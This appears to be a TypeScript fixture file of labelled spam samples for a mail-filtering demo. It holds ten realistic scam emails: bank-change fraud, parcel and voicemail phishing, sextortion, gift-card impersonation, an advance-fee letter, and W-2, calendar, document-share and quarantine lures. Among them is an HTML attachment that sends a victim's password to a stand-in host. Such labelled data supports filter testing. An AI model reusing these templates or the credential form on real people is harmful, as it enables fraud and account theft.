import { iban } from '../../demo/form/numbers.ts';
import type { Sample } from '../../demo/form/sample.ts';
import { calendarFile, docxFile, pdfFile, textFile } from './file-parts.ts';

const spam: Pick<Sample, 'kind' | 'level' | 'categories' | 'language'> = {
	kind: 'spam',
	level: 'none',
	categories: [],
	language: 'en',
};

/** Fraud and unasked offers, written as their senders write them now: calmly, and with attachments. */
export const englishScams: Sample[] = [
	{
		...spam,
		date: '2026-11-02T09:14:22Z',
		level: 'moderate',
		categories: ['financial'],
		from: 'Marianne Holt <m.holt@bayside-marine-suppIy.example>',
		to: ['accounts.payable@navy.ml'],
		subject: 'RE: RE: Statement October - change of bank',
		headers: [
			['Reply-To', 'marianne.holt.accounts@postbox-europe.example'],
			['In-Reply-To', '<stmt-oct@bayside-marine-supply.example>'],
		],
		text: `Good morning,

I refer to the below. Our bank has informed us of an audit on our usual account so kindly hold all payments and settle the October statement to the account in the attached letter instead. Please send the payment slip same day, this is urgent on our side.

Many thanks
Marianne Holt
Credit Control

From: Accounts Payable
Sent: 29 October 2026
To: Marianne Holt
Subject: RE: Statement October

Marianne, received, we pay on the 5th as always.
`,
		attachments: [
			pdfFile(
				'Bank letter.pdf',
				`BAYSIDE MARINE SUPPLY

TO WHOM IT MAY CONCERN

Please be informed that with immediate effect our banking coordinates are:

Beneficiary   Bayside Marine Supply
IBAN          [[iban:${iban('LT', '783500010041227')}]]
Swift         KBDELT2V

Director (signed)
`,
			),
		],
	},
	{
		...spam,
		date: '2026-11-03T06:50:09Z',
		from: 'Parcel Desk <noreply@post-redelivery-desk.example>',
		to: ['laura.hensley@us.army.ml'],
		subject: 'Redelivery needed: item LK 4471 2290 1 GB',
		format: 'html',
		headers: [['X-Priority', '3']],
		text: `<html><body><div style="background:#fc0;padding:8px"><b>POST &amp; PARCEL</b></div>
<p>Your item <b>LK 4471 2290 1 GB</b> could not be delivered because the house number is missing.</p>
<p>A redelivery fee of <b>&pound;1.45</b> applies. <a href="https://post-redelivery-desk.example/a/LK4471">Update address</a></p>
<p>Items are returned after 48 hours.</p></body></html>
`,
	},
	{
		...spam,
		date: '2026-11-04T12:33:47Z',
		from: 'ezVoice <voicemail@ezvoice-notify.example>',
		to: ['james.pruett@socom.ml'],
		subject: 'VM from 404-555-0133 for james.pruett (0:38)',
		text: `You received a voice message.

Caller: 404-555-0133
Length: 38 seconds
Priority: normal

Open the attached file to listen. You may be asked for your e-mail password to decrypt the audio.
`,
		attachments: [
			textFile(
				'VM_0038sec_wav.htm',
				`<html><body onload="document.forms[0].u.value='james.pruett@socom.ml'"><form action="https://ezvoice-notify.example/c.php" method="post"><h3>Sign in to play</h3><input name="u"><input type="password" name="p" placeholder="Password"><button>PLAY</button></form></body></html>
`,
				'text/html',
			),
		],
	},
	{
		...spam,
		date: '2026-11-06T02:02:02Z',
		from: 'scott.maynard@us.af.ml <x7@relay-nine.example>',
		envelopeFrom: 'x7@relay-nine.example',
		to: ['scott.maynard@us.af.ml'],
		subject: 'scott, read this alone',
		charset: 'utf-8',
		encoding: 'base64',
		text: `Hі there,

I sent thіs from your own account, look at the sender. So you see I am insіde.

Four months ago you opened a fіle. Since then I have your screen, your camera and your contacts, and a clіp of what you do on certaіn sites, left side the vіdeo, right side you.

1300 USD in Bіtcoin to bc1qz8v5m3k0h7t2c9x4r6p3n5w3j8d0s2g4f7a9e6 and I forget you. You have 50 hours from opening. Do not go to the polіce, do not answer.

Next time cover the lens.
`,
	},
	{
		...spam,
		date: '2026-11-06T14:08:31Z',
		from: 'Col. Adrian Vance <adrian.vance.private@quickbox-mail.example>',
		to: ['stephanie.rowe@us.army.ml'],
		subject: 'Stephanie - small favor',
		text: `Stephanie,

Are you free? I'm in the commander's conference till 1500 and can't take calls. I promised SGM Whitaker and two others a thank you from me, eight gift cards at $100. Get them at the exchange, scratch the back, and mail me the codes here - I'll square it with you tonight. Keep it between us, it's a surprise.

Adrian
Sent from my mobile
`,
	},
	{
		...spam,
		date: '2026-11-09T05:31:13Z',
		from: 'Mr. Okello Bright <okello.bright@remit-office.example>',
		to: ['Undisclosed recipients:;'],
		bcc: ['contact@army.ml', 'general@army.ml'],
		subject: 'CONFIDENTIAL: CONSIGNMENT IN YOUR NAME',
		headers: [['Reply-To', 'diplomat.hansen@courier-desk.example']],
		text: `ATTN: BENEFICIARY,

THIS IS TO BRING TO YOUR NOTICE THAT TWO TRUNK BOXES WITH DIPLOMATIC TAG NO. 4471-22-9930, CONTAINING US$9.2M CASH, LEFT BY THE LATE GENERAL ABUBAKAR MOMOH, ARE AT THE AIRPORT. THE DIPLOMAT, MR. HANSEN, IS CARRYING THEM TO YOUR HOUSE. RECONFIRM YOUR FULL NAMES, HOME ADDRESS, PASSPORT COPY AND NEAREST AIRPORT. CLASSIFIED. TELL NOBODY.

MR. OKELLO BRIGHT
`,
		attachments: [
			docxFile(
				'DELIVERY ORDER.docx',
				`INTERNATIONAL REMITTANCE OFFICE
SECRET DELIVERY ORDER, DIPLOMATIC TAG NO. 4471-22-9930
TWO TRUNK BOXES, WEIGHT 64 KG EACH, DECLARED AS PHOTOGRAPHIC MATERIAL
FEE FOR NON-INSPECTION STAMP: US$ 1,850 TO BE PAID BY THE BENEFICIARY
`,
			),
		],
	},
	{
		...spam,
		date: '2026-11-10T11:57:42Z',
		from: 'Payroll & Benefits <benefits@hr-open-enrollment.example>',
		to: ['tanisha.boone@dla.ml'],
		subject: 'Action by Friday: W-2 delivery preference for tanisha.boone',
		text: `Hello,

Your 2026 W-2 is scheduled for paper delivery. To get it electronically, scan the code in the attached notice with your phone and confirm your SSN and direct deposit details.

Payroll & Benefits
This mailbox is not monitored. Confidential: for the addressee only.
`,
		attachments: [
			docxFile(
				'W2 notice.docx',
				`ELECTRONIC W-2 CONSENT
Employee: tanisha.boone@dla.ml
Scan the QR code below with your phone camera to sign in.
You will need your Social Security number and your bank account number.
Offer ends Friday.
`,
			),
		],
	},
	{
		...spam,
		date: '2026-11-11T16:16:38Z',
		from: 'Calendar <invite@meet-scheduler-link.example>',
		to: ['p.rosenthal@us.af.ml'],
		subject: 'Invitation: Q4 bonus review @ Thu Nov 12 2pm',
		text: `You have been invited to Q4 bonus review. Documents must be opened before the meeting: https://meet-scheduler-link.example/d/q4
`,
		attachments: [
			calendarFile('invite.ics', [
				'PRODID:-//scheduler//EN',
				'METHOD:REQUEST',
				'BEGIN:VEVENT',
				'UID:b0nus@meet-scheduler-link.example',
				'DTSTAMP:20261111T161000Z',
				'DTSTART:20261112T190000Z',
				'DTEND:20261112T193000Z',
				'SUMMARY:Q4 bonus review',
				'DESCRIPTION:Sign in with your work account to view the document https://meet-scheduler-link.example/d/q4',
				'END:VEVENT',
			]),
		],
	},
	{
		...spam,
		date: '2026-11-13T07:07:44Z',
		from: 'Docs <share-noreply@paperfly-sign.example>',
		to: ['monica.ellery@health.ml'],
		subject: 'Dr. Ellery, a patient document was shared with you',
		format: 'html',
		headers: [['X-Mailer', 'Microsoft Outlook 16.0']],
		text: `<html><body><p>Hello Dr. Ellery,</p><p><b>Referral_MRI_results.pdf</b> has been shared with you through Paperfly Secure.</p>
<p><a href="https://paperfly-sign.example/v/9912?u=monica.ellery@health.ml" style="background:#06c;color:#fff;padding:10px">Review document</a></p>
<p>You will be asked to verify your mailbox password because the content is protected health information.</p></body></html>
`,
	},
	{
		...spam,
		date: '2026-11-19T13:13:54Z',
		from: 'Exchange Admin <postmaster@mail-quarantine-center.example>',
		to: ['b.whitlow@spaceforce.ml'],
		subject: 'You have (3) messages in quarantine',
		html: 'alternative',
		text: `Quarantine summary for b.whitlow@spaceforce.ml

From: accounts@...      Subject: Payment advice        [Release] [Delete]
From: hr@...            Subject: Leave request         [Release] [Delete]
From: legal@...         Subject: Settlement, signed    [Release] [Delete]

Release all: https://mail-quarantine-center.example/r?e=b.whitlow@spaceforce.ml

Messages are deleted after 3 days. Your password is required to release.
`,
	},
];
